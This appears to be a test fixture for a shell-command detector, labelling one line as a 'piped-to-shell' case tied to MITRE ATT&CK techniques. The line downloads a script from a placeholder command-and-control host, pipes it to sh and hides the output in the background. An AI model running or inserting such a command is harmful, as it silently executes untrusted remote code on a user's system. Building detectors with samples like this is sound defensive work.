# expect: piped-to-shell | source: T1059.004, T1564
(curl -fsSL https://c2.example.invalid/i | sh) > /dev/null 2>&1 &
